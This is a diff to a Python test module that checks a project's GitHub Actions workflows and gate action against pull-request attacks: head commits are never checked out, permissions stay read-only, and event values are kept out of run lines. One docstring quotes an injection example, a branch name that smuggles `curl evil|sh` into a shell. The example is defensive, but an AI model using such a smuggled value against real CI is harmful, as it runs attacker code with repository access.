@@ -1,8 +1,11 @@
 """The workflows run the commands CONTRIBUTING.md's "What CI runs" names, so a contributor's local
 `--base auto` check and sign-off check are CI's (issue #9 item 7), and the gate that judges a pull request
 is the base's, from a workflow the pull request cannot edit, on the head commit fetched as objects (issue #16
-item 1, issues #24 and #25; docs/trust.md). How each trusted job starts Python is tests/trust/. (The schema
-check of every workflow file is tests/test_workflows.py; the pins are tests/test_supply_chain.py.)
+item 1, issues #24 and #25; docs/trust.md). The commands are the gate's action's (issue #33 item 2), which
+each trusted job runs from the judging commit's own checkout: its steps are read through it
+(tests/trust/workflow.py's `expand`, the step's inputs substituted). How each trusted job starts Python is
+tests/trust/. (The schema check of every workflow file is tests/test_workflows.py; the pins are
+tests/test_supply_chain.py.)
 """
 
 from __future__ import annotations
@@ -10,6 +13,7 @@ from __future__ import annotations
 from ruamel.yaml import YAML
 
 from ..support.paths import REPO
+from ..trust.workflow import applicable, expand
 
 WORKFLOWS = REPO / ".github" / "workflows"
 BASE_SHA = "${{ github.event.pull_request.base.sha }}"
@@ -39,14 +43,18 @@ def test_the_entries_workflow_runs_the_tests_and_on_a_push_the_gate_in_a_job_of_
     assert [s["run"] for s in tests["steps"] if "run" in s] == ["bash .ci/run"]
     assert "if" not in tests
     assert gate["if"] == "github.event_name == 'push'" and "needs" not in gate
-    runs = [s["run"].strip() for s in gate["steps"] if "run" in s]
+    assert gate["steps"][-1]["uses"] == "./catalog/.github/actions/gate"
+    assert gate["steps"][-1]["with"] == {"job": "push", "catalog": "catalog", "head": "${{ github.sha }}"}
+    steps = applicable(expand(gate))
+    runs = [s["run"].strip() for s in steps if "run" in s]
     assert runs[-2:] == [f'{GATE} verifier fetch --catalog "$CATALOG"', f'{GATE} check --catalog "$CATALOG" --commit "$COMMIT"']
-    assert gate["steps"][-1]["env"] == {"CATALOG": "${{ github.workspace }}/catalog", "COMMIT": "${{ github.sha }}"}
-    assert not any("--base" in s.get("run", "") for s in gate["steps"])
+    assert steps[-1]["env"] == {"CATALOG": "${{ github.workspace }}/catalog", "COMMIT": "${{ github.sha }}",
+                                "EXCHANGE_READER_CACHE": "${{ runner.temp }}/exchange-readers"}
+    assert not any("--base" in s.get("run", "") for s in steps)
 
 
 def _job_steps(job: dict) -> tuple[list[dict], list[dict]]:
-    steps = job["steps"]
+    steps = applicable(expand(job))
     return [s for s in steps if "uses" in s], [s for s in steps if "run" in s]
 
 
@@ -59,9 +67,11 @@ def test_attack_pull_request_judges_itself_the_gate_workflow_has_the_boundarys_s
     assert list(_triggers(workflow)) == ["pull_request_target"]
     assert workflow["permissions"] == {}
     assert set(workflow["jobs"]) == {"gate", "sign-off"}
-    commands = {"gate": f'{GATE} check --catalog "$CATALOG" --commit "$HEAD" --base "$BASE" --format markdown >> '
-                        '"$GITHUB_STEP_SUMMARY" || [ "$?" -eq 1 ]',
+    several = 'several=()\nif [ "$ONE_ENTRY" = false ]; then several=(--several-entries); fi\n'
+    commands = {"gate": f'{several}{GATE} check --catalog "$CATALOG" --commit "$HEAD" --base "$BASE" "${{several[@]}}" '
+                        '--format markdown >> "$GITHUB_STEP_SUMMARY" || [ "$?" -eq 1 ]',
                 "sign-off": f'{GATE} signoff --catalog "$CATALOG" --base "$BASE" --head "$HEAD" --format github'}
+    inputs = {"gate": "pull-request", "sign-off": "sign-off"}
     for name, job in workflow["jobs"].items():
         assert job["permissions"] == {"contents": "read"}
         uses, runs = _job_steps(job)
@@ -69,20 +79,25 @@ def test_attack_pull_request_judges_itself_the_gate_workflow_has_the_boundarys_s
         assert [c["with"]["path"] for c in checkouts] == ["base"]  # the head is never checked out
         base = checkouts[0]["with"]
         assert base["ref"] == BASE_SHA and base["persist-credentials"] is False and base["fetch-depth"] == 0
+        action = job["steps"][-1]
+        assert action["uses"] == "./base/.github/actions/gate"  # the base commit's own action, from base/
+        assert action["with"] == {"job": inputs[name], "catalog": "base", "base": BASE_SHA, "head": HEAD_SHA}
         install = next(s for s in runs if "pip install" in s["run"])
-        assert install["env"] == {"SOURCE": "${{ github.workspace }}/base", "COMMIT": BASE_SHA}
+        assert 'source="$GITHUB_ACTION_PATH/../../.."' in install["run"] and "env" not in install
         fetch = next(s for s in runs if "fetch" in s["run"] and "refs/exchange/head" in s["run"])
         assert fetch["env"]["HEAD"] == HEAD_SHA and "checkout" not in fetch["run"]
         assert all(s.get("working-directory") == "${{ runner.temp }}" for s in runs)
         assert runs[-1]["run"].strip() == commands[name]
-        assert runs[-1]["env"] == {"CATALOG": "${{ github.workspace }}/base", "BASE": BASE_SHA, "HEAD": HEAD_SHA}
+        assert {k: v for k, v in runs[-1]["env"].items() if k in ("CATALOG", "BASE", "HEAD")} == {
+            "CATALOG": "${{ github.workspace }}/base", "BASE": BASE_SHA, "HEAD": HEAD_SHA}
     gate_runs = _job_steps(workflow["jobs"]["gate"])[1]
-    assert gate_runs[-2]["run"].strip() == (f'GITHUB_STEP_SUMMARY= {GATE} check --catalog "$CATALOG" --commit "$HEAD" '
-                                            '--base "$BASE" --format github')  # annotations; the summary is the review's
-    assert gate_runs[-1]["if"] == "${{ !cancelled() }}"  # the review is written after a refusal too (issue #27)
+    assert gate_runs[-2]["run"].strip() == (f'{several}GITHUB_STEP_SUMMARY= {GATE} check --catalog "$CATALOG" --commit '
+                                            '"$HEAD" --base "$BASE" "${several[@]}" --format github')  # the annotations
+    assert gate_runs[-1]["if"] == "${{ !cancelled() && 'pull-request' == 'pull-request' }}"  # after a refusal too
+    assert gate_runs[-1]["env"]["ONE_ENTRY"] == gate_runs[-2]["env"]["ONE_ENTRY"] == "true"  # one entry by default
     fetch = [s for s in _job_steps(workflow["jobs"]["gate"])[1] if "verifier fetch" in s["run"]]
     assert [s["run"].strip() for s in fetch] == [f'{GATE} verifier fetch --catalog "$CATALOG"']  # the base's pin
-    assert fetch[0]["env"] == {"CATALOG": "${{ github.workspace }}/base"}
+    assert fetch[0]["env"]["CATALOG"] == "${{ github.workspace }}/base"
 
 
 def test_no_other_workflow_runs_on_pull_request_target_with_the_change():
@@ -111,8 +126,10 @@ def test_contributing_names_the_same_commands():
 def test_no_expression_is_expanded_inside_a_run_line():
     """Attack: a branch name like `a";curl evil|sh;"` reaching a shell through `${{ … }}` in a run line.
     Every value the workflows take from the event goes through `env:`, quoted in the command."""
-    for name in ("ci.yml", "gate.yml", "release.yml"):
-        lines = (WORKFLOWS / name).read_text(encoding="utf-8").splitlines()
+    for path in [*(WORKFLOWS / n for n in ("ci.yml", "gate.yml", "release.yml", "publish.yml")),
+                 REPO / ".github" / "actions" / "gate" / "action.yml"]:
+        name = path.name
+        lines = path.read_text(encoding="utf-8").splitlines()
         for i, line in enumerate(lines):
             if not line.strip().startswith("run:"):
                 continue
